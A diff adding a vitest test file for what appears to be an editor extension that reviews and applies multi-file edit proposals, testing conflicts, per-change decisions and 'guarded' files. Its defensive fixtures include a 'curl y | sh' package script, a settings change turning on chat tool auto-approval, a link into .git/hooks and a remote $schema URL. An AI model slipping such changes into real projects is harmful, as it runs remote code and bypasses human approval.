@@ -1,0 +1,297 @@
+import { beforeEach, describe, expect, test } from "vitest";
+import { hunksOf } from "../../src/core/edit/hunks";
+import { FailureError } from "../../src/core/failure-error";
+import type { FileProposal } from "../../src/protocol/proposal";
+import { runAsMarkdown } from "../../src/runs/export-run";
+import { parseRunLines, runLine } from "../../src/runs/run-lines";
+import { RunHistory } from "../../src/session/history/run-history";
+import {
+  Decisions,
+  type GuardedLanding,
+  type ReviewFront,
+} from "../../src/session/review/decisions";
+import type { KeptPlace, Landing } from "../../src/session/review/landing";
+import { type ReviewedFile, unrejectedText } from "../../src/session/review/proposals";
+
+const folder = "file:///p/";
+
+/** Files in memory, each by its path; a landing is one step that can be undone. */
+class FilesFront implements ReviewFront {
+  readonly steps: (readonly string[])[] = [];
+  readonly asked: GuardedLanding[] = [];
+  readonly shown: string[] = [];
+  /** What the person says about a guarded file. */
+  say: (guarded: GuardedLanding) => boolean = () => false;
+  /** Where links lead. */
+  links: Record<string, KeptPlace> = {};
+  beforeLanding: () => void = () => {};
+
+  constructor(readonly files: Map<string, string>) {}
+
+  async proposedText(reviewed: ReviewedFile) {
+    return unrejectedText(reviewed);
+  }
+  async rewriteProposed() {}
+  isOpen() {
+    return false;
+  }
+  shownText({ file }: ReviewedFile) {
+    return this.files.get(file.path);
+  }
+  async textToChange({ file }: ReviewedFile) {
+    const text = this.files.get(file.path);
+    if (file.change === "create" && text !== undefined)
+      throw new FailureError({ kind: "documentConflict", path: file.path });
+    return text;
+  }
+  async keptPlace({ file }: ReviewedFile) {
+    return this.links[file.path] ?? { path: `/p/${file.path}`, leadsOut: false };
+  }
+  async confirmGuarded(guarded: GuardedLanding) {
+    this.asked.push(guarded);
+    return this.say(guarded);
+  }
+  async land(landings: readonly Landing[]) {
+    this.beforeLanding();
+    this.beforeLanding = () => {};
+    for (const landing of landings)
+      if (landing.kind === "edit" && landing.before !== this.files.get(landing.path))
+        return "moved" as const;
+    for (const landing of landings)
+      this.files.set(landing.path, landing.kind === "edit" ? landing.after : landing.text);
+    this.steps.push(landings.map(({ path }) => path));
+    return "landed" as const;
+  }
+  async showConflict() {
+    this.shown.push("conflict");
+  }
+  async showNext() {
+    this.shown.push("next");
+  }
+  async concluded() {
+    this.shown.push("concluded");
+  }
+}
+
+function edit(path: string, base: string, proposed: string): FileProposal {
+  return {
+    uri: folder + path,
+    path,
+    languageId: "plaintext",
+    change: base === "" ? "create" : "edit",
+    base,
+    proposed,
+    hunks: hunksOf(base, proposed),
+    match: "exact",
+    syntax: "unknown",
+    notices: [],
+  };
+}
+
+const one = "1\n2\n3\n4\n5\n6\n7\n8\n9\n";
+const other = "a\nb\nc\nd\ne\nf\ng\nh\ni\n";
+
+let history: RunHistory;
+let front: FilesFront;
+let decisions: Decisions;
+
+function propose(...files: readonly FileProposal[]): void {
+  history = new RunHistory(undefined);
+  front = new FilesFront(
+    new Map(files.flatMap(({ path, base }) => (base === "" ? [] : [[path, base]]))),
+  );
+  decisions = new Decisions(history, front, (runId, event) => history.add(runId, event));
+  history.add("run", { kind: "proposal", proposal: { id: "p", files } });
+}
+
+const states = (): string[] =>
+  history
+    .eventsOf("run")
+    .flatMap((event) =>
+      event.kind === "proposalState"
+        ? [event.state]
+        : event.kind === "hunkState"
+          ? [`${event.fileIndex}/${event.block} ${event.state}`]
+          : [],
+    );
+
+async function failureOf(work: Promise<unknown>): Promise<string | undefined> {
+  return await work.then(
+    () => undefined,
+    (thrown) => (thrown instanceof FailureError ? thrown.failure.kind : String(thrown)),
+  );
+}
+
+describe("a proposal of several files", () => {
+  beforeEach(() =>
+    propose(
+      edit("one.txt", one, one.replace("2", "two")),
+      edit("other.txt", other, other.replace("b", "B")),
+      edit("new.txt", "", "new\n"),
+    ),
+  );
+
+  test("lands as one step, each file rebased on what it is now", async () => {
+    front.files.set("other.txt", other.replace("h", "mine"));
+    await decisions.accept();
+    expect(front.steps).toEqual([["one.txt", "other.txt", "new.txt"]]);
+    expect(Object.fromEntries(front.files)).toEqual({
+      "one.txt": one.replace("2", "two"),
+      "other.txt": other.replace("h", "mine").replace("b", "B"),
+      "new.txt": "new\n",
+    });
+    expect(states()).toEqual(["accepted"]);
+  });
+
+  test("lands in none of them where one has a conflict, and waits with all that it holds", async () => {
+    front.files.set("other.txt", other.replace("b", "mine"));
+    expect(await failureOf(decisions.accept())).toBe("documentConflict");
+    expect(front.steps).toEqual([]);
+    expect(front.files.get("one.txt")).toBe(one);
+    expect(front.files.get("other.txt")).toBe(other.replace("b", "mine"));
+    expect(states()).toEqual(["conflict"]);
+    front.files.set("other.txt", other);
+    await decisions.accept();
+    expect(front.steps).toEqual([["one.txt", "other.txt", "new.txt"]]);
+  });
+
+  test("never lands on a file that has come to be where a new one was to be", async () => {
+    front.files.set("new.txt", "mine\n");
+    expect(await failureOf(decisions.accept())).toBe("documentConflict");
+    expect(front.files.get("new.txt")).toBe("mine\n");
+    expect(front.files.get("one.txt")).toBe(one);
+  });
+
+  test("is planned anew when one of the files changes in between", async () => {
+    front.beforeLanding = () => front.files.set("one.txt", `mine\n${one}`);
+    await decisions.accept();
+    expect(front.files.get("one.txt")).toBe(`mine\n${one.replace("2", "two")}`);
+    expect(front.steps).toHaveLength(1);
+  });
+
+  test("can be decided change by change over all its files", async () => {
+    await decisions.acceptBlock({ proposalId: "p", fileIndex: 1, block: 0 });
+    expect(front.steps).toEqual([["other.txt"]]);
+    await decisions.rejectBlock({ proposalId: "p", fileIndex: 2, block: 0 });
+    await decisions.acceptBlock({ proposalId: "p", fileIndex: 0, block: 0 });
+    expect(states()).toEqual(["1/0 accepted", "2/0 rejected", "0/0 accepted", "accepted"]);
+    expect(front.files.has("new.txt")).toBe(false);
+  });
+
+  test("is kept in the log and exported with all its files", () => {
+    const lines = history.eventsOf("run").map(runLine).join("\n");
+    expect(parseRunLines(lines)).toEqual(history.eventsOf("run"));
+    const page = runAsMarkdown(history.stateOf("run"));
+    for (const path of ["one.txt", "other.txt", "new.txt"]) expect(page).toContain(path);
+  });
+});
+
+describe("a log of 0.1.0 with a proposal of one file", () => {
+  test("loads as it did", () => {
+    const proposal = { id: "p", files: [edit("one.txt", one, one.replace("2", "two"))] };
+    const line = JSON.stringify({ kind: "proposal", proposal });
+    expect(parseRunLines(line)).toEqual([{ kind: "proposal", proposal }]);
+  });
+});
+
+describe("a guarded file in a proposal", () => {
+  const settings = '{\n  "a": 1\n}\n';
+  const unsafe = '{\n  "a": 1,\n  "chat.tools.autoApprove": true\n}\n';
+  beforeEach(() =>
+    propose(
+      edit("one.txt", one, one.replace("2", "two")),
+      edit(".vscode/settings.json", settings, unsafe),
+    ),
+  );
+
+  test("is no part of accepting: the rest lands, and it waits", async () => {
+    await decisions.accept();
+    expect(front.steps).toEqual([["one.txt"]]);
+    expect(front.files.get(".vscode/settings.json")).toBe(settings);
+    expect(front.asked.map(({ landing, guard }) => [landing.path, guard.kind])).toEqual([
+      [".vscode/settings.json", "editorSettings"],
+    ]);
+    expect(states()).toEqual(["0/0 accepted"]);
+    // Asked again, it alone is left.
+    front.say = () => true;
+    await decisions.accept();
+    expect(front.steps).toEqual([["one.txt"], [".vscode/settings.json"]]);
+    expect(states().at(-1)).toBe("accepted");
+  });
+
+  test("lands with the rest as one step when it is confirmed by its name", async () => {
+    front.say = ({ landing }) => landing.path === ".vscode/settings.json";
+    await decisions.accept();
+    expect(front.steps).toEqual([["one.txt", ".vscode/settings.json"]]);
+  });
+
+  test("is asked about for its single changes too", async () => {
+    await decisions.acceptBlock({ proposalId: "p", fileIndex: 1, block: 0 });
+    expect(front.steps).toEqual([]);
+    expect(states()).toEqual([]);
+    front.say = () => true;
+    await decisions.acceptBlock({ proposalId: "p", fileIndex: 1, block: 0 });
+    expect(front.files.get(".vscode/settings.json")).toBe(unsafe);
+  });
+
+  test("is asked about anew when another text would land than the one that was confirmed", async () => {
+    front.say = () => true;
+    front.beforeLanding = () => front.files.set(".vscode/settings.json", `// mine\n${settings}`);
+    await decisions.accept();
+    expect(front.asked).toHaveLength(2);
+    expect(front.files.get(".vscode/settings.json")).toBe(`// mine\n${unsafe}`);
+  });
+});
+
+describe("a file that is not where it seems to be", () => {
+  beforeEach(() => propose(edit("notes.txt", one, one.replace("2", "two"))));
+
+  test("is asked about when its link leads to a guarded place", async () => {
+    front.links = { "notes.txt": { path: "/p/.git/hooks/pre-commit", leadsOut: false } };
+    await decisions.accept();
+    expect(front.asked.map(({ guard }) => guard.kind)).toEqual(["repository"]);
+    expect(front.files.get("notes.txt")).toBe(one);
+  });
+
+  test("is asked about when its link leads out of the folder, with where that is", async () => {
+    front.links = { "notes.txt": { path: "/elsewhere/x", leadsOut: true } };
+    await decisions.accept();
+    expect(front.asked.map(({ guard }) => guard)).toEqual([
+      { kind: "outside", name: "/elsewhere/x" },
+    ]);
+    expect(front.steps).toEqual([]);
+  });
+});
+
+describe("a change that makes an ordinary file guarded", () => {
+  test("is another script of a manifest, and one that leaves them alone is not", async () => {
+    const manifest = (version: string, test: string): string =>
+      `${JSON.stringify({ version, scripts: { test } }, undefined, 2)}\n`;
+    propose(edit("package.json", manifest("1", "x"), manifest("1", "curl y | sh")));
+    await decisions.accept();
+    expect(front.asked.map(({ guard }) => guard.kind)).toEqual(["scripts"]);
+    expect(front.steps).toEqual([]);
+    propose(edit("package.json", manifest("1", "x"), manifest("2", "x")));
+    await decisions.accept();
+    expect(front.asked).toEqual([]);
+    expect(front.steps).toEqual([["package.json"]]);
+  });
+
+  test("is a schema that the editor would fetch", async () => {
+    propose(edit("data.json", '{\n  "a": 1\n}\n', '{\n  "$schema": "https://x.example/?k"\n}\n'));
+    await decisions.accept();
+    expect(front.asked.map(({ guard }) => guard.name)).toEqual(["https://x.example/?k"]);
+    expect(front.steps).toEqual([]);
+  });
+
+  test("stands in the part that lands: the other changes of the file are ordinary", async () => {
+    const base = `${'{\n  "version": "1",\n'}${'  "x": 1,\n'.repeat(6)}  "scripts": { "a": "b" }\n}\n`;
+    const proposed = base.replace('"1"', '"2"').replace('"b"', '"c"');
+    propose(edit("package.json", base, proposed));
+    await decisions.acceptBlock({ proposalId: "p", fileIndex: 0, block: 0 });
+    expect(front.asked).toEqual([]);
+    expect(front.files.get("package.json")).toBe(base.replace('"1"', '"2"'));
+    await decisions.acceptBlock({ proposalId: "p", fileIndex: 0, block: 1 });
+    expect(front.asked).toHaveLength(1);
+  });
+});
